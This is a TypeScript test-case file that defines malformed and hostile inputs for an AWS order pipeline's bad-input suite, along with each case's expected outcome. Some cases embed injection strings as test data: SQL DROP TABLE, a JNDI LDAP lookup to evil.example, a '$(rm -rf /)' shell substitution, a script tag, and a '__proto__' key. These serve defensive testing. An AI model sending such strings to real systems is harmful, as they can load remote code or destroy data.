/**
 * The bad-input suite's cases (issue #7): what is sent at each edge of the pipeline and what must come
 * of it. Pure data, built per run: every case carries a marker (`bad-<run>-<case>`) in what it sends, so
 * whatever it causes (a DLQ entry, an order, a log line) can be told apart from other runs and cases.
 *
 * Edges: `pipeline inject` (the CLI), PutEvents straight to the bus, a raw body sent to a consumer's
 * SQS queue, an item written to the event store (its DynamoDB stream record feeds the outbox), and a
 * message published to the notifications topic (SNS → channel queues). The intake's own cases (bare
 * data, refused and duplicate commands, reused ids, events without the stored mark) are in
 * `cases-intake.ts`.
 */

import type { DlqUrlOutput, QueueUrlOutput } from '../../infra/stacks/outputs.ts';
import { intakePutEventsCases, intakeSnsCases, intakeSqsCases, notStored } from './cases-intake.ts';
import { envelope, eventBridgeBody, nestedArrays, orderData, storedMark } from './payloads.ts';

export { envelope, eventBridgeBody, nestedArrays, orderData, storedMark };

/** Where a case enters the pipeline. */
export type Edge = 'cli-inject' | 'put-events' | 'sqs-body' | 'stream-record' | 'sns-message';

export const EDGES: readonly Edge[] = [
  'cli-inject',
  'put-events',
  'sqs-body',
  'stream-record',
  'sns-message',
];

/** Stack outputs naming a dead-letter queue. */
export type DlqOutput = DlqUrlOutput;

/** Every DLQ the suite watches for entries it did not expect. */
export const WATCHED_DLQS: readonly DlqOutput[] = [
  'SagaDlqUrl',
  'InventoryDlqUrl',
  'PaymentDlqUrl',
  'ProjectorDlqUrl',
  'RecorderDlqUrl',
  'EmailDlqUrl',
  'SmsDlqUrl',
  'PushDlqUrl',
  'RuleTargetDlqUrl',
  'OutboxDlqUrl',
];

/** Stack outputs naming a consumer's work queue. */
export type QueueOutput = QueueUrlOutput;

/** What a case sends, per edge. */
export type Payload =
  | {
      readonly edge: 'cli-inject';
      /** Arguments after `pipeline inject` (the runner adds `--stack`). */
      readonly args: readonly string[];
      /** Written to a temporary file whose path replaces `{{file}}` in `args` (for large inputs). */
      readonly file?: string;
    }
  | {
      readonly edge: 'put-events';
      /** One PutEvents entry; the runner sets the bus name. Absent fields are left out. */
      readonly entry: { readonly Source?: string; readonly DetailType?: string; readonly Detail?: string };
    }
  | { readonly edge: 'sqs-body'; readonly queue: QueueOutput; readonly body: string }
  | {
      readonly edge: 'sns-message';
      readonly message: string;
      /** String message attributes (the subscriptions filter on `type`). */
      readonly attributes: Readonly<Record<string, string>>;
    }
  | {
      readonly edge: 'stream-record';
      /**
       * Commit item attributes besides the key (`pk = STREAM#<marker>`, `sk = E#0000000001`) and its
       * versions (1 to 1), as strings: `events` is the JSON array of envelopes.
       */
      readonly attributes: Readonly<Record<string, string>>;
    };

/** What must come of a case. */
export type Expectation =
  /** The edge refuses it: CLI exit code ≠ 0, a PutEvents entry error, an SDK error. */
  | { readonly kind: 'rejected'; readonly error: RegExp }
  /** A consumer dead-letters it in each of `queues` with the reason (`code at path: message`) matching. */
  | {
      readonly kind: 'dead-lettered';
      readonly queues: readonly DlqOutput[];
      /** Queues that may also hold it (e.g. the walking-skeleton recorder, which stores any envelope). */
      readonly optional?: readonly DlqOutput[];
      readonly reason: RegExp;
    }
  /** SNS drops it: no subscription's filter policy matches (by design). Nothing may hold it. */
  | { readonly kind: 'filtered' }
  /** Accepted and routed to no consumer that could act on it: no DLQ entry, no order. */
  | { readonly kind: 'ignored'; readonly why: string }
  /** Valid but odd data: processed as data, the order ends in `status`, its strings stored verbatim. */
  | {
      readonly kind: 'processed';
      readonly orderId: string;
      readonly status: 'CONFIRMED' | 'CANCELLED';
      readonly reason?: RegExp;
      readonly verbatim: Readonly<Record<string, string>>;
      /**
       * Sent as bare data: the stored `OrderPlaced` carries the EventBridge event's id as its id and
       * correlation id (PutEvents' EventId; the `id` of an EventBridge event sent as an SQS body).
       */
      readonly derivedEnvelope?: boolean;
    }
  /** The outbox publisher refuses the stored item and reports it (AWS: retries, then its on-failure DLQ). */
  | { readonly kind: 'outbox-refused'; readonly reason: RegExp }
  /** The outbox leaves the stored item unpublished (not a catalog event): it never reaches the bus. */
  | { readonly kind: 'not-published'; readonly eventId: string }
  /**
   * A second `OrderPlaced` for an order placed before, with other content: the saga stores an
   * `OrderRejected` for it in the order's stream (and the read model lists it); the order stays as
   * first placed and ends in `status`. No DLQ entry.
   */
  | {
      readonly kind: 'order-rejected';
      readonly orderId: string;
      readonly status: 'CONFIRMED' | 'CANCELLED';
      /** The order's one stored `OrderPlaced`, and the customer the summary keeps. */
      readonly placedEventId: string;
      readonly customerId: string;
      /** The refused command, and the customer it named. */
      readonly refusedEventId: string;
      readonly refusedCustomerId: string;
      readonly reason: RegExp;
    }
  /**
   * The same `OrderPlaced` content again under a new event id (a producer's retry): the saga skips it
   * as a duplicate (its log says so); one order, nothing stored for it, no DLQ entry.
   */
  | {
      readonly kind: 'duplicate';
      readonly orderId: string;
      readonly status: 'CONFIRMED' | 'CANCELLED';
      readonly placedEventId: string;
      readonly duplicateEventId: string;
    };

/**
 * An input sent before the case's own: for cases about what meets the effect of an earlier input (a
 * second command for one order, an event id used twice). The runner sends it, waits until it was
 * taken, then sends the case's payload.
 */
export interface FirstInput {
  /**
   * Sent at a network edge, or appended to the event store as version 1 of `streamId` (the outbox then
   * publishes it with its stored mark, as it publishes what consumers store).
   */
  readonly payload:
    | Extract<Payload, { edge: 'put-events' | 'sqs-body' }>
    | { readonly edge: 'event-store'; readonly streamId: string; readonly event: Record<string, unknown> };
  /** What shows it was taken: an event of `type` in stream `streamId`. Afterwards still exactly one. */
  readonly taken: { readonly streamId: string; readonly type: string };
  /** The order it placed and how that order must end (awaited and checked), if it placed one. */
  readonly order?: { readonly orderId: string; readonly status: 'CONFIRMED' | 'CANCELLED' };
}

/** A SKU of the case's own, stocked before anything is sent; exactly `left` must be available after. */
export interface CaseStock {
  readonly sku: string;
  readonly qty: number;
  readonly left: number;
}

/** Where the local emulator does not behave as AWS, what it does instead (the case is then an emulator gap). */
export interface EmulatorGap {
  readonly gap: string;
  readonly expect: Expectation;
}

/** One case of the suite. */
export interface BadInputCase {
  /** Short unique id, e.g. `pe-malformed-detail`. */
  readonly id: string;
  readonly edge: Edge;
  readonly name: string;
  /** What is sent, in a few words, for the report. */
  readonly sent: string;
  /** In everything the case sends; finds what it caused. */
  readonly marker: string;
  /**
   * Order ids the case mentions: no order may exist for them afterwards (unless `processed`; the
   * orders of a first input and of `order-rejected` / `duplicate` are checked by those instead).
   */
  readonly orderIds: readonly string[];
  readonly payload: Payload;
  readonly first?: FirstInput;
  readonly stock?: CaseStock;
  /** The AWS-correct outcome. */
  readonly expect: Expectation;
  /** Set when the emulator is known to differ; the runner checks `emulator.expect` on a local cloud. */
  readonly emulator?: EmulatorGap;
}

/** What the runner needs to know to build the cases of one run. */
export interface CaseOptions {
  /** Unique per run; lowercase letters and digits. */
  readonly runId: string;
  /** A SKU the run stocked: orders for it can be confirmed. */
  readonly stockedSku: string;
}

/** What the emulator does differently with a record the outbox publisher refuses. */
export const STREAM_GAP =
  'MiniStack drops a DynamoDB-stream batch item failure: on AWS the record is retried (bisected), then its stream coordinates go to the outbox DLQ';

/** What the consumers say about a detail that is not a JSON object (the runtime first, the recorder second). */
const NOT_AN_OBJECT = /^VALIDATION at detail: detail: (must be a JSON object|Invalid input: expected object)/;

/**
 * Where a producer's bad `OrderPlaced` ends: only the saga takes it off the bus (its intake); every
 * other consumer reacts to the stored copy the outbox publishes, so it never sees a bad one.
 */
const SAGA_ONLY: readonly DlqOutput[] = ['SagaDlqUrl'];
const CHANNEL_DLQS: readonly DlqOutput[] = ['EmailDlqUrl', 'SmsDlqUrl', 'PushDlqUrl'];

/** A case as its builder writes it: the marker and edge are derived, order ids default to `<marker>-order`. */
export type CaseInput = Omit<BadInputCase, 'marker' | 'orderIds' | 'edge'> & {
  readonly orderIds?: readonly string[];
};

/** What case builders share within one run. */
export interface CaseContext {
  /** `bad-<runId>-<id>`. */
  readonly marker: (id: string) => string;
  /** `<marker>-order`. */
  readonly order: (id: string) => string;
  readonly stockedSku: string;
}

/**
 * Every case of one run. `marker(id)` is `bad-<runId>-<id>`; order ids are `<marker>-order` unless a
 * case needs another one.
 */
export function buildCases(options: CaseOptions): BadInputCase[] {
  const { runId, stockedSku } = options;
  const m = (id: string) => `bad-${runId}-${id}`;
  const order = (id: string) => `${m(id)}-order`;
  const cases: BadInputCase[] = [];
  const add = (input: CaseInput) => {
    const marker = m(input.id);
    cases.push({
      ...input,
      edge: input.payload.edge,
      marker,
      orderIds: input.orderIds ?? [order(input.id)],
    });
  };
  const json = (value: unknown) => JSON.stringify(value);
  /** A commit's `events` attribute holding one envelope. */
  const jsonList = (value: unknown) => JSON.stringify([value]);

  // ── CLI: `pipeline inject` validates against the catalog and sends nothing when anything is wrong.
  const cli = (id: string, name: string, sent: string, args: string[], error: RegExp, file?: string) =>
    add({
      id,
      name,
      sent,
      payload: { edge: 'cli-inject', args, ...(file === undefined ? {} : { file }) },
      expect: { kind: 'rejected', error },
    });
  cli(
    'cli-malformed-json',
    'malformed JSON',
    '--data with a truncated object',
    ['OrderPlaced', '--data', `{"orderId": "${order('cli-malformed-json')}", "items": [`],
    /--data is not valid JSON/,
  );
  cli(
    'cli-unknown-type',
    'unknown event type',
    'type OrderPlacd (typo)',
    ['OrderPlacd', '--data', json(orderData(order('cli-unknown-type')))],
    /Unknown event type "OrderPlacd"[\s\S]*Did you mean OrderPlaced/,
  );
  const withoutCustomer = orderData(order('cli-missing-field'));
  delete withoutCustomer.customerId;
  cli(
    'cli-missing-field',
    'missing field',
    'OrderPlaced without customerId',
    ['OrderPlaced', '--data', json(withoutCustomer)],
    /Invalid OrderPlaced event: data\.customerId: .*expected string, received undefined/,
  );
  cli(
    'cli-wrong-type',
    'wrong type',
    'items[0].qty = "2" (a string)',
    [
      'OrderPlaced',
      '--data',
      json(orderData(order('cli-wrong-type'), { items: [{ sku: 'A', qty: '2', unitPrice: 1 }] })),
    ],
    /data\.items\.0\.qty: .*expected number, received string/,
  );
  cli(
    'cli-negative-amount',
    'negative amount',
    'total = -34',
    ['OrderPlaced', '--data', json(orderData(order('cli-negative-amount'), { total: -34 }))],
    /data\.total: Too small: expected number to be >0/,
  );
  cli(
    'cli-nan-amount',
    'NaN amount',
    'total = "NaN"',
    ['OrderPlaced', '--data', json(orderData(order('cli-nan-amount'), { total: 'NaN' }))],
    /data\.total: .*expected number, received string/,
  );
  cli(
    'cli-infinite-amount',
    'infinite amount',
    'total = 1e999 (JSON number beyond double)',
    [
      'OrderPlaced',
      '--data',
      json(orderData(order('cli-infinite-amount'), { total: 0 })).replace('"total":0', '"total":1e999'),
    ],
    /data\.total: .*expected number, received Infinity/,
  );
  cli(
    'cli-oversized',
    'oversized',
    '--file with a 300 KB paymentToken',
    ['OrderPlaced', '--file', '{{file}}'],
    /above the limit of 262144 bytes/,
    json(orderData(order('cli-oversized'), { paymentToken: 'x'.repeat(300_000) })),
  );
  cli(
    'cli-deep-nesting',
    'deep nesting',
    '--file with customerId nested 10,000 arrays deep',
    ['OrderPlaced', '--file', '{{file}}'],
    /data\.customerId: .*expected string, received array/,
    json(orderData(order('cli-deep-nesting'), { customerId: '@@DEEP@@' })).replace(
      '"@@DEEP@@"',
      nestedArrays(10_000),
    ),
  );
  cli(
    'cli-huge-array',
    'huge array',
    '--file with 20,000 items (≈ 900 KB)',
    ['OrderPlaced', '--file', '{{file}}'],
    /above the limit of 262144 bytes/,
    json(
      orderData(order('cli-huge-array'), {
        items: Array.from({ length: 20_000 }, (_, i) => ({ sku: `SKU-${i}`, qty: 1, unitPrice: 1 })),
      }),
    ),
  );
  cli(
    'cli-unicode-phone',
    'odd unicode',
    'phone with a right-to-left override (+49\\u202E151…)',
    [
      'OrderPlaced',
      '--data',
      json(
        orderData(order('cli-unicode-phone'), {
          contact: { phone: '+49\u202E15112345678', channels: ['sms'] },
        }),
      ),
    ],
    /data\.contact\.phone: must be an E\.164 phone number/,
  );
  cli(
    'cli-injection-currency',
    'injection-looking string',
    'currency = "EUR\'; DROP TABLE orders;--"',
    [
      'OrderPlaced',
      '--data',
      json(orderData(order('cli-injection-currency'), { currency: "EUR'; DROP TABLE orders;--" })),
    ],
    /data\.currency: must be an ISO 4217 currency code/,
  );

  // ── PutEvents straight to the bus: the rules route by Source/DetailType, the consumers validate.
  const placedOn = (
    id: string,
    detail: string,
    sent: string,
    name: string,
    expect: Expectation,
    emulator?: EmulatorGap,
  ) =>
    add({
      id,
      name,
      sent,
      payload: {
        edge: 'put-events',
        entry: { Source: 'orders.api', DetailType: 'OrderPlaced', Detail: detail },
      },
      expect,
      ...(emulator === undefined ? {} : { emulator }),
    });
  const deadLettered = (reason: RegExp, recorder: 'required' | 'optional' = 'optional'): Expectation => ({
    kind: 'dead-lettered',
    queues: recorder === 'required' ? [...SAGA_ONLY, 'RecorderDlqUrl'] : SAGA_ONLY,
    ...(recorder === 'optional' ? { optional: ['RecorderDlqUrl'] as const } : {}),
    reason,
  });
  placedOn(
    'pe-malformed-detail',
    `{"id": "${m('pe-malformed-detail')}", "type": "OrderPlaced",`,
    'Detail is truncated JSON',
    'malformed JSON',
    { kind: 'rejected', error: /MalformedDetail/ },
    {
      gap: 'MiniStack accepts a Detail that is not JSON (AWS answers the entry with MalformedDetail); the consumers then dead-letter it',
      expect: deadLettered(NOT_AN_OBJECT, 'required'),
    },
  );
  placedOn(
    'pe-detail-array',
    json([m('pe-detail-array')]),
    'Detail is a JSON array',
    'wrong type',
    { kind: 'rejected', error: /MalformedDetail/ },
    {
      gap: 'MiniStack accepts a Detail that is not a JSON object (AWS answers the entry with MalformedDetail); the consumers then dead-letter it',
      expect: deadLettered(NOT_AN_OBJECT, 'required'),
    },
  );
  add({
    id: 'pe-missing-source',
    name: 'missing field',
    sent: 'entry without Source',
    payload: {
      edge: 'put-events',
      entry: { DetailType: 'OrderPlaced', Detail: json(envelope(m('pe-missing-source'), 'OrderPlaced', {})) },
    },
    expect: { kind: 'rejected', error: /InvalidArgument|Source/ },
    emulator: {
      gap: "MiniStack accepts an entry without Source (AWS refuses it with InvalidArgument); the saga's intake rule takes OrderPlaced from any source, so the saga dead-letters its empty data",
      expect: {
        kind: 'dead-lettered',
        queues: SAGA_ONLY,
        reason:
          /^VALIDATION at detail\.data\.orderId: detail\.data\.orderId: Invalid input: expected string, received undefined/,
      },
    },
  });
  // A detail without `type` and `data` is a producer's bare data: the catalog checks it as OrderPlaced
  // data, field by field where the producer put it (the recorder checks it the same way).
  placedOn(
    'pe-not-an-envelope',
    json({ marker: m('pe-not-an-envelope'), orderId: order('pe-not-an-envelope') }),
    'Detail is an object but no envelope (read as bare OrderPlaced data)',
    'missing field',
    deadLettered(
      /^VALIDATION at detail\.customerId: detail\.customerId: Invalid input: expected string, received undefined \(and 5 more issue/,
      'required',
    ),
  );
  placedOn(
    'pe-unknown-version',
    json(
      envelope(m('pe-unknown-version'), 'OrderPlaced', orderData(order('pe-unknown-version')), {
        version: 9,
      }),
    ),
    'OrderPlaced version 9',
    'unknown version',
    deadLettered(/^VALIDATION at detail\.version: .*unknown version 9 of OrderPlaced; known versions: 1, 2/),
  );
  add({
    id: 'pe-unknown-type',
    name: 'unknown type',
    sent: 'DetailType/type OrderTeleported (not in the catalog)',
    payload: {
      edge: 'put-events',
      entry: {
        Source: 'orders.api',
        DetailType: 'OrderTeleported',
        Detail: json(
          envelope(m('pe-unknown-type'), 'OrderTeleported', { orderId: order('pe-unknown-type') }),
        ),
      },
    },
    expect: {
      kind: 'ignored',
      why: 'no consumer rule matches a type outside the catalog (the walking-skeleton recorder stores any orders.* envelope)',
    },
  });
  placedOn(
    'pe-type-mismatch',
    json(
      envelope(m('pe-type-mismatch'), 'OrderCancelled', {
        orderId: order('pe-type-mismatch'),
        customerId: 'cus-1',
        reason: 'x',
        contact: { email: 'a@example.com', channels: ['email'] },
      }),
    ),
    'DetailType OrderPlaced, envelope type OrderCancelled',
    'wrong type',
    deadLettered(/^VALIDATION at detail-type: detail-type: does not match detail\.type 'OrderCancelled'/),
  );
  placedOn(
    'pe-negative-amount',
    json(
      envelope(m('pe-negative-amount'), 'OrderPlaced', orderData(order('pe-negative-amount'), { total: -5 })),
    ),
    'OrderPlaced with total = -5',
    'negative amount',
    deadLettered(/^VALIDATION at detail\.data\.total: .*Too small: expected number to be >0/),
  );
  placedOn(
    'pe-wrong-types',
    json(
      envelope(
        m('pe-wrong-types'),
        'OrderPlaced',
        orderData(order('pe-wrong-types'), { items: [{ sku: 7, qty: '1', unitPrice: null }] }),
      ),
    ),
    'items[0] = {sku: 7, qty: "1", unitPrice: null}',
    'wrong type',
    deadLettered(
      /^VALIDATION at detail\.data\.items\.0\.sku: .*expected string, received number \(and 2 more issue/,
    ),
  );
  placedOn(
    'pe-infinite-amount',
    json(
      envelope(m('pe-infinite-amount'), 'OrderPlaced', orderData(order('pe-infinite-amount'), { total: 0 })),
    ).replace('"total":0', '"total":1e999'),
    'OrderPlaced with total = 1e999',
    'NaN / infinite amount',
    deadLettered(/^VALIDATION(?: at detail\.data\.total: .*received Infinity|: not valid JSON)/),
  );
  placedOn(
    'pe-oversized',
    json(
      envelope(
        m('pe-oversized'),
        'OrderPlaced',
        orderData(order('pe-oversized'), { paymentToken: 'x'.repeat(300_000) }),
      ),
    ),
    'OrderPlaced of 300 KB (EventBridge takes 1 MB, the pipeline 256 KB)',
    'oversized',
    deadLettered(/^VALIDATION at detail: .*above the limit of 262144 bytes/),
  );
  placedOn(
    'pe-deep-nesting',
    json(
      envelope(
        m('pe-deep-nesting'),
        'OrderPlaced',
        orderData(order('pe-deep-nesting'), { customerId: '@@' }),
      ),
    ).replace('"@@"', nestedArrays(500)),
    'customerId nested 500 arrays deep',
    'deep nesting',
    deadLettered(/^VALIDATION at detail\.data\.customerId: .*expected string, received array/),
  );
  placedOn(
    'pe-proto-key',
    json(envelope(m('pe-proto-key'), 'OrderPlaced', orderData(order('pe-proto-key')))).replace(
      '{"id"',
      '{"__proto__":{"admin":true},"id"',
    ),
    'envelope with a "__proto__" key',
    'injection-looking key',
    deadLettered(/^VALIDATION at detail: .*Unrecognized key: "__proto__"/),
  );
  const hugeOrder = order('pe-huge-array');
  placedOn(
    'pe-huge-array',
    json(
      envelope(
        m('pe-huge-array'),
        'OrderPlaced',
        orderData(hugeOrder, {
          items: Array.from({ length: 1000 }, (_, i) => ({
            sku: `${m('pe-huge-array')}-${i}`,
            qty: 1,
            unitPrice: 1,
          })),
          total: 1000,
        }),
      ),
    ),
    'valid OrderPlaced with 1,000 distinct SKUs',
    'huge array',
    {
      kind: 'processed',
      orderId: hugeOrder,
      status: 'CANCELLED',
      reason: /order has 1000 SKUs; at most 48 can be reserved together/,
      verbatim: {},
    },
  );
  const injectionOrder = `${order('pe-injection')}-<script>alert(1)</script>`;
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the point (looks like a JNDI lookup)
  const injectionCustomer = "cus'; DROP TABLE orders;-- ${jndi:ldap://evil.example/a} {{seq}} $(rm -rf /)";
  placedOn(
    'pe-injection',
    json(
      envelope(
        m('pe-injection'),
        'OrderPlaced',
        orderData(injectionOrder, {
          customerId: injectionCustomer,
          items: [{ sku: `${m('pe-injection')}-\${jndi:ldap://x}`, qty: 1, unitPrice: 10 }],
        }),
      ),
    ),
    'valid order whose ids look like SQL/JNDI/shell/HTML injection',
    'injection-looking strings',
    {
      kind: 'processed',
      orderId: injectionOrder,
      status: 'CANCELLED',
      reason: /insufficient stock: bad-.*-pe-injection-\$\{jndi:ldap:\/\/x\} \(requested 1, available 0\)/,
      verbatim: { customerId: injectionCustomer },
    },
  );
  const unicodeOrder = `${order('pe-unicode')}-Оrdеr-😀`;
  const unicodeCustomer = 'cüs-\u202Eevil\u202C-\u200D👩‍👩‍👧-e\u0301-\uFEFF-𝔘𝔫𝔦𝔠𝔬𝔡𝔢';
  add({
    id: 'pe-unicode',
    name: 'odd unicode',
    sent: 'valid order with RTL override, ZWJ, combining marks, BOM, astral and homoglyph characters',
    orderIds: [unicodeOrder],
    payload: {
      edge: 'put-events',
      entry: {
        Source: 'orders.api',
        DetailType: 'OrderPlaced',
        Detail: json(
          envelope(
            m('pe-unicode'),
            'OrderPlaced',
            orderData(unicodeOrder, {
              customerId: unicodeCustomer,
              items: [{ sku: stockedSku, qty: 1, unitPrice: 10 }],
            }),
          ),
        ),
      },
    },
    expect: {
      kind: 'processed',
      orderId: unicodeOrder,
      status: 'CONFIRMED',
      verbatim: { customerId: unicodeCustomer },
    },
  });

  const context: CaseContext = { marker: m, order, stockedSku };
  for (const input of intakePutEventsCases(context)) add(input);

  // ── Raw SQS bodies straight into a consumer's queue (a producer that skips the bus).
  const raw = (
    id: string,
    name: string,
    sent: string,
    queue: QueueOutput,
    body: string,
    dlq: DlqOutput,
    reason: RegExp,
  ) =>
    add({
      id,
      name,
      sent,
      payload: { edge: 'sqs-body', queue, body },
      expect: { kind: 'dead-lettered', queues: [dlq], reason },
    });
  raw(
    'sqs-not-json',
    'malformed JSON',
    'inventory queue: body "<marker> {not json"',
    'InventoryQueueUrl',
    `${m('sqs-not-json')} {not json`,
    'InventoryDlqUrl',
    /^VALIDATION: not valid JSON/,
  );
  raw(
    'sqs-array',
    'wrong type',
    'payment queue: body is a JSON array',
    'PaymentQueueUrl',
    json([m('sqs-array')]),
    'PaymentDlqUrl',
    /^VALIDATION: event must be a JSON object/,
  );
  raw(
    'sqs-unknown-type',
    'unknown type',
    'saga queue: EventBridge event of type OrderTeleported',
    'SagaQueueUrl',
    eventBridgeBody(
      envelope(m('sqs-unknown-type'), 'OrderTeleported', { orderId: order('sqs-unknown-type') }),
      'OrderTeleported',
    ),
    'SagaDlqUrl',
    /^VALIDATION at detail\.type: .*unknown event type 'OrderTeleported'/,
  );
  // Unmarked: the saga refuses what skipped the event store before it looks for a handler
  // (sqs-stored-wrong-consumer sends a stored event's copy, whose mark the store confirms).
  raw(
    'sqs-wrong-consumer',
    'not stored (and for another consumer)',
    'saga queue: a valid InventoryReservationRequested without the stored mark',
    'SagaQueueUrl',
    eventBridgeBody(
      envelope(
        m('sqs-wrong-consumer'),
        'InventoryReservationRequested',
        {
          orderId: order('sqs-wrong-consumer'),
          items: [{ sku: 'A', qty: 1 }],
        },
        { source: 'orders.saga' },
      ),
      'InventoryReservationRequested',
      'orders.saga',
    ),
    'SagaDlqUrl',
    notStored('InventoryReservationRequested', 'saga'),
  );
  raw(
    'sqs-extra-key',
    'unknown field',
    'sms channel queue: bare envelope with an extra top-level key',
    'SmsQueueUrl',
    json({ ...envelope(m('sqs-extra-key'), 'OrderPlaced', orderData(order('sqs-extra-key'))), admin: true }),
    'SmsDlqUrl',
    /^VALIDATION: .*Unrecognized key: "admin"/,
  );
  raw(
    'sqs-sns-not-json',
    'malformed JSON (wrapped)',
    'email channel queue: SNS notification whose Message is not JSON',
    'EmailQueueUrl',
    json({ Type: 'Notification', MessageId: m('sqs-sns-not-json'), Message: `${m('sqs-sns-not-json')} {` }),
    'EmailDlqUrl',
    /^VALIDATION at Message: Message: not valid JSON/,
  );
  raw(
    'sqs-fractional-qty',
    'wrong type',
    'inventory queue: InventoryReservationRequested with qty 0.5',
    'InventoryQueueUrl',
    eventBridgeBody(
      envelope(
        m('sqs-fractional-qty'),
        'InventoryReservationRequested',
        {
          orderId: order('sqs-fractional-qty'),
          items: [{ sku: stockedSku, qty: 0.5 }],
        },
        { source: 'orders.saga' },
      ),
      'InventoryReservationRequested',
      'orders.saga',
    ),
    'InventoryDlqUrl',
    /^VALIDATION at detail\.data\.items\.0\.qty: .*expected int, received number/,
  );
  raw(
    'sqs-nan-amount',
    'NaN amount',
    'payment queue: PaymentAuthorizationRequested with total "NaN"',
    'PaymentQueueUrl',
    eventBridgeBody(
      envelope(
        m('sqs-nan-amount'),
        'PaymentAuthorizationRequested',
        {
          ...orderData(order('sqs-nan-amount'), { total: 'NaN' }),
          contact: undefined,
        },
        { source: 'orders.saga' },
      ),
      'PaymentAuthorizationRequested',
      'orders.saga',
    ),
    'PaymentDlqUrl',
    /^VALIDATION at detail\.data\.total: .*expected number, received string/,
  );
  raw(
    'sqs-deep-nesting',
    'deep nesting',
    'saga queue: body nested 100,000 arrays deep',
    'SagaQueueUrl',
    nestedArrays(100_000, json(m('sqs-deep-nesting'))),
    'SagaDlqUrl',
    /^VALIDATION: event must be a JSON object/,
  );
  raw(
    'sqs-deep-metadata',
    'deep nesting',
    'saga queue: valid OrderPlaced whose free-form metadata is nested 20,000 arrays deep',
    'SagaQueueUrl',
    eventBridgeBody(
      envelope(m('sqs-deep-metadata'), 'OrderPlaced', orderData(order('sqs-deep-metadata')), {
        metadata: { deep: 0 },
      }),
      'OrderPlaced',
    ).replace('"deep":0', `"deep":${nestedArrays(20_000)}`),
    'SagaDlqUrl',
    /^VALIDATION at detail: detail: event cannot be serialized \(nested too deeply\)/,
  );
  add({
    id: 'sqs-oversized',
    name: 'oversized',
    sent: 'saga queue: a 1.1 MB body',
    payload: {
      edge: 'sqs-body',
      queue: 'SagaQueueUrl',
      body: `${m('sqs-oversized')} ${'x'.repeat(1_100_000)}`,
    },
    expect: {
      kind: 'rejected',
      error: /too long|shorter than|InvalidParameterValue|MessageTooLong|exceeds/i,
    },
  });

  for (const input of intakeSqsCases(context)) add(input);

  // ── SNS: published to the notifications topic, delivered raw to the channel queues it matches.
  const sns = (
    id: string,
    name: string,
    sent: string,
    message: string,
    type: string | undefined,
    expect: Expectation,
  ) =>
    add({
      id,
      name,
      sent,
      payload: { edge: 'sns-message', message, attributes: type === undefined ? {} : { type } },
      expect,
    });
  sns(
    'sns-not-json',
    'malformed JSON',
    'type=OrderConfirmed, Message not JSON',
    `${m('sns-not-json')} {"orderId":`,
    'OrderConfirmed',
    { kind: 'dead-lettered', queues: CHANNEL_DLQS, reason: /^VALIDATION: not valid JSON/ },
  );
  sns(
    'sns-bad-email',
    'wrong type',
    'type=OrderCancelled, contact.email "not-an-email"',
    json(
      envelope(
        m('sns-bad-email'),
        'OrderCancelled',
        {
          orderId: order('sns-bad-email'),
          customerId: 'cus-1',
          reason: 'x',
          contact: { email: 'not-an-email', channels: ['email'] },
        },
        { source: 'orders.saga' },
      ),
    ),
    'OrderCancelled',
    {
      kind: 'dead-lettered',
      queues: CHANNEL_DLQS,
      reason: /^VALIDATION at data\.contact\.email: .*Invalid email/,
    },
  );
  // Unmarked: the channels refuse what skipped the event store before they look for a handler
  // (sns-stored-type-mismatch sends a stored event's copy, whose mark the store confirms).
  sns(
    'sns-type-mismatch',
    'not stored (and for another consumer)',
    'type=OrderConfirmed attribute, body a valid InventoryReserved without the stored mark',
    json(
      envelope(
        m('sns-type-mismatch'),
        'InventoryReserved',
        { orderId: order('sns-type-mismatch'), items: [{ sku: 'A', qty: 1 }] },
        { source: 'orders.inventory' },
      ),
    ),
    'OrderConfirmed',
    {
      kind: 'dead-lettered',
      queues: CHANNEL_DLQS,
      reason: notStored('InventoryReserved', 'notify-(email|sms|push)'),
    },
  );
  sns(
    'sns-no-type',
    'missing field',
    'no type message attribute (body not JSON)',
    `${m('sns-no-type')} {`,
    undefined,
    { kind: 'filtered' },
  );
  sns(
    'sns-unknown-type',
    'unknown type',
    'type=OrderTeleported (body not JSON)',
    `${m('sns-unknown-type')} {`,
    'OrderTeleported',
    { kind: 'filtered' },
  );
  sns(
    'sns-oversized',
    'oversized',
    'type=OrderConfirmed, 300 KB message (SNS takes 256 KB)',
    `${m('sns-oversized')} ${'x'.repeat(300_000)}`,
    'OrderConfirmed',
    { kind: 'rejected', error: /too long|InvalidParameter|exceeds|size/i },
  );

  for (const input of intakeSnsCases(context)) add(input);

  // ── Event store items: the outbox publisher reads them from the table's stream.
  const stream = (
    id: string,
    name: string,
    sent: string,
    attributes: Record<string, string>,
    expect: Expectation,
  ) =>
    add({
      id,
      name,
      sent,
      payload: { edge: 'stream-record', attributes },
      expect,
      // The publisher behaves the same; what happens after its batch item failure differs.
      ...(expect.kind === 'outbox-refused' ? { emulator: { gap: STREAM_GAP, expect } } : {}),
    });
  const storedEnvelope = (id: string, overrides: Record<string, unknown> = {}, data?: unknown) =>
    envelope(m(id), 'OrderPlaced', data ?? orderData(order(id)), overrides);
  stream(
    'stream-not-json',
    'malformed JSON',
    'commit item whose events attribute is not JSON',
    { events: `[{"id": "${m('stream-not-json')}",` },
    { kind: 'outbox-refused', reason: /^events: not valid JSON: / },
  );
  stream(
    'stream-missing-field',
    'missing field',
    'commit item whose envelope has no correlationId',
    { events: json([{ ...storedEnvelope('stream-missing-field'), correlationId: undefined }]) },
    { kind: 'outbox-refused', reason: /events\.1\.correlationId: .*expected string, received undefined/ },
  );
  stream(
    'stream-no-envelope',
    'missing field',
    'commit item without the events attribute',
    {},
    { kind: 'outbox-refused', reason: /events: missing string attribute/ },
  );
  stream(
    'stream-oversized',
    'oversized',
    'commit item with a 300 KB envelope',
    {
      events: jsonList(
        storedEnvelope(
          'stream-oversized',
          {},
          orderData(order('stream-oversized'), { paymentToken: 'x'.repeat(300_000) }),
        ),
      ),
    },
    { kind: 'outbox-refused', reason: /above the limit of 262144 bytes/ },
  );
  stream(
    'stream-unknown-type',
    'unknown type',
    'commit item of type OrderTeleported (not in the catalog)',
    {
      events: jsonList(
        envelope(m('stream-unknown-type'), 'OrderTeleported', { orderId: order('stream-unknown-type') }),
      ),
    },
    { kind: 'not-published', eventId: `${m('stream-unknown-type')}-event` },
  );
  return cases;
}

/** Cases per edge, in edge order. */
export function casesByEdge(cases: readonly BadInputCase[]): Map<Edge, BadInputCase[]> {
  const byEdge = new Map<Edge, BadInputCase[]>(EDGES.map((edge) => [edge, []]));
  for (const c of cases) byEdge.get(c.edge)?.push(c);
  return byEdge;
}

